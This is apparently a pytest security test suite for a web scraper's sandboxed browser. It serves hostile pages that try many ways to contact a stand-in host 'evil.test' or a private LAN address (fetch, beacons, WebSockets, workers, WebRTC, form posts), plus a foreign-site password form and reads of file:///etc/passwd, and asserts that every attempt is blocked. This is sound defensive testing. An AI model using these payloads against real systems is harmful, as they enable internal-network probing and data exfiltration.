"""The browser's window: every way out of a page goes through the door."""

import asyncio
import contextlib
import stat
from pathlib import Path

import pytest

from scraper.core.errors import ForeignHost, SiteUnreachable, UnsafeRedirect
from scraper.core.link import parse_url
from scraper.core.settings import Settings
from scraper.session import Session
from scraper.session.browser import Window
from scraper.session.door import Door
from scraper.session.http.client import Http
from scraper.session.http.pace import Pace
from scraper.testing import borrowed_browser, in_browser_loop
from tests.security.played import LAN, OTHER, PUBLIC, Played, Trap
from tests.security.test_hostile_addresses import Handler, answer, server

NAMES = {"film.test": [PUBLIC], "other.test": [OTHER], "evil.test": ["192.168.77.1"], "inside.test": ["10.0.0.1"]}
FRAMES = """
<iframe src="{at}/iframe"></iframe><img src="{at}/img"><link rel=stylesheet href="{at}/css"><script src="{at}/script"></script>
<link rel=preconnect href="{at}"><link rel=prefetch href="{at}/prefetch"><link rel=dns-prefetch href="{at}">
<video src="{at}/video"></video><object data="{at}/object"></object><a ping="{at}/ping" href="#x" id=a>x</a>
<form id=f method=post target=_blank action="{at}/form"><input name=x value=1></form>
<form id=g method=post target=inner action="{at}/inner"><input name=x value=1></form><iframe name=inner></iframe>"""
SCRIPTS = """<script>
const at = "{at}", bare = at.split("//")[1];
const quietly = work => { try { const done = work(); if (done && done.catch) done.catch(() => 0); } catch (e) {} };
quietly(() => fetch(at + "/fetch", {mode: "no-cors"}));
quietly(() => fetch("/redirect?to=" + encodeURIComponent(at + "/redirected"), {mode: "no-cors"}));
quietly(() => navigator.sendBeacon(at + "/beacon", "x"));
quietly(() => new WebSocket("ws://" + bare + "/socket"));
quietly(() => new EventSource(at + "/events"));
quietly(() => { const x = new XMLHttpRequest(); x.open("GET", at + "/xhr"); x.send(); });
quietly(() => new Worker(URL.createObjectURL(new Blob([`fetch("` + at + `/worker", {mode: "no-cors"}).catch(() => 0);
  new WebSocket("ws://${bare}/worker-socket")`]))));
quietly(() => new SharedWorker("/shared.js?to=" + encodeURIComponent(at)));
quietly(() => document.getElementById("f").submit());
quietly(() => document.getElementById("g").submit());
quietly(() => document.getElementById("a").click());
quietly(() => open(at + "/popup"));
quietly(() => { const c = new RTCPeerConnection({iceServers: [{urls: "stun:" + bare}]}); c.createDataChannel("x");
  c.createOffer().then(o => c.setLocalDescription(o)); });
quietly(() => new WebTransport("https://" + bare + "/transport"));
</script>"""
WAYS = [f"<!doctype html><title>page</title><body>{ways}</body>" for ways in (FRAMES + SCRIPTS, SCRIPTS)]


def pages(targets: list[str]) -> Handler:
    async def handler(head: bytes, writer: asyncio.StreamWriter) -> None:
        path = head.split(b" ")[1].decode()
        if path.startswith("/page"):
            number = int(path.removeprefix("/page"))
            body = WAYS[number].replace("{at}", targets[number]).encode()
            writer.write(answer(body, "Content-Type: text/html"))
        elif path.startswith("/redirect"):
            from urllib.parse import unquote

            writer.write(answer(b"", f"Location: {unquote(path.partition('=')[2])}", status="302 Found"))
        elif path.startswith("/shared.js"):
            script = (
                b'fetch(decodeURIComponent(location.search.slice(4)) + "/shared", {mode: "no-cors"}).catch(() => 0)'
            )
            writer.write(answer(script, "Content-Type: text/javascript"))
        else:
            writer.write(answer(b"<title>home</title>", "Content-Type: text/html"))

    return handler


async def settle(window: Window) -> None:
    with contextlib.suppress(TimeoutError):
        async with asyncio.timeout(8):
            await window.traffic.settled(0.7, 6.0)


EVERY_WAY = {
    *("/iframe", "/img", "/css", "/script", "/fetch", "/redirected", "/beacon", "/socket", "/events", "/xhr"),
    *("/worker", "/worker-socket", "/shared", "/form", "/inner"),
}


def reached(trap: Trap) -> set[str]:
    return {line.split()[1] for line in trap.lines}


@in_browser_loop
async def test_hostile_3_no_way_out_of_a_page_leads_inside():
    """Some twenty ways to a name, those of scripts to an address; and the page reaches there where its link lies inside, too."""
    targets: list[str] = []
    settings = Settings(timeout_s=10)
    with Trap(LAN) as trap:
        targets += [f"http://evil.test:{trap.port}", f"http://0xc0a84d01:{trap.port}"]
        async with server(pages(targets)) as port, borrowed_browser(settings) as browser:
            door = Door(settings, Played(NAMES))
            door.belongs_to(f"http://film.test:{port}/page0")
            window = await browser.window(door=door)
            blocked: list[str] = []
            window.on_blocked_host = blocked.append
            for number in range(len(targets)):
                await window.open(f"http://film.test:{port}/page{number}")
                await settle(window)
            for url in (targets[0] + "/opened", f"http://film.test:{port}/redirect?to={targets[1]}/redirected"):
                with pytest.raises(UnsafeRedirect):
                    await window.open(url)
            await window.close()
            assert trap.lines == []
            assert set(blocked) == {"evil.test", "192.168.77.1"}
        async with server(pages(targets), LAN) as port, borrowed_browser(settings) as browser:
            door = Door(settings, Played(NAMES))
            window = await browser.window(door=door)
            door.belongs_to(f"http://inside.test:{port}/page0")
            await window.open(f"http://inside.test:{port}/page0")
            with contextlib.suppress(TimeoutError):
                async with asyncio.timeout(60):
                    while not reached(trap) >= EVERY_WAY:  # noqa: ASYNC110  # the trap has no event
                        await asyncio.sleep(0.05)
            await window.close()
        assert reached(trap) >= EVERY_WAY


LOGIN = """<!doctype html><title>login</title><form id=f method={method} action="{action}">
<input name=account><input name=password type=password><button>go</button></form>"""


@pytest.mark.parametrize(
    ("method", "action"),
    [
        ("post", "/again"),
        pytest.param("post", "http://other.test:{port}/login", marks=pytest.mark.thorough),
        pytest.param("get", "http://other.test:{port}/login", marks=pytest.mark.thorough),
    ],
)
@in_browser_loop
async def test_hostile_2_a_form_in_the_browser_is_not_sent_to_another_site(tmp_path, method, action):
    heads: list[bytes] = []

    async def handler(head: bytes, writer: asyncio.StreamWriter) -> None:
        heads.append(head)
        if head.startswith(b"POST /again"):
            writer.write(answer(b"", f"Location: http://other.test:{port}/login", status="307 Moved"))
        else:
            form = LOGIN.format(method=method, action=action.format(port=port))
            writer.write(answer(form.encode(), "Content-Type: text/html"))

    settings = Settings(timeout_s=10, answers={"password": "s3cret-word"})
    async with server(handler) as port, borrowed_browser(settings) as browser:
        http = Http(settings, Pace(4, None), door=Door(settings, Played(NAMES)))
        session = Session(
            parse_url(f"http://film.test:{port}/s/1"),
            settings,
            http,
            start_window=lambda: browser.window(door=http.door),
            ask=lambda *_: None,
            spool=tmp_path,
        )
        from scraper.core.questions import PASSWORD

        window = await session.window()

        async def log_in() -> None:
            async with window.guard():
                await session.open(session.link.url)
                await session.page.fill("[name=password]", session.answer(PASSWORD))
                await session.page.click("button")
                await session.traffic.wait_for("/never", timeout_s=5)

        with pytest.raises(ForeignHost):
            await log_in()
        await session.close()
    assert not any(b"Host: other.test" in head for head in heads)


@in_browser_loop
async def test_hostile_12_the_browser_asks_for_nothing_of_its_own():
    """No host but the page's is asked for; no permission is granted, no file is read, its profile is its owner's alone."""
    asked_for = """() => Promise.all(["geolocation", "notifications", "camera", "microphone", "clipboard-read", "midi"].map(
      name => navigator.permissions.query({name}).then(status => status.state, () => "denied")))"""
    file_ways = """async () => {
      const frame = document.createElement("iframe"); frame.src = "file:///etc/passwd"; document.body.append(frame);
      const fetched = await fetch("file:///etc/passwd").then(() => "read", () => "refused");
      try { location.href = "file:///etc/passwd"; } catch (e) {}
      await new Promise(done => setTimeout(done, 300));
      return [fetched, location.protocol];
    }"""
    settings = Settings(timeout_s=10)
    async with server(pages(["about:blank"])) as port, borrowed_browser(settings) as browser:
        before = set(browser.process.asked_hosts)
        door = Door(settings, Played(NAMES))
        door.belongs_to(f"http://film.test:{port}/home")
        window = await browser.window(door=door)
        await window.open(f"http://film.test:{port}/home")
        assert set(await window.page.evaluate(asked_for)) == {"denied"}
        assert await window.page.evaluate(file_ways) == ["refused", "http:"]
        profiles = [Path(word.partition("=")[2]) for word in _command_lines() if word.startswith("--user-data-dir=")]
        assert profiles
        folders = [path for profile in profiles if profile.exists() for path in (profile, profile.parent)]
        assert {stat.S_IMODE(path.stat().st_mode) for path in folders} == {0o700}
        await settle(window)
        assert set(browser.process.asked_hosts) - before <= {"film.test"}
        assert set(door.refused) == set()
        with pytest.raises(SiteUnreachable):
            await window.open("http://no-such-name.test/")


def _command_lines() -> list[str]:
    import psutil

    words: list[str] = []
    for process in psutil.Process().children(recursive=True):
        with contextlib.suppress(psutil.Error):
            words += process.cmdline()
    return words
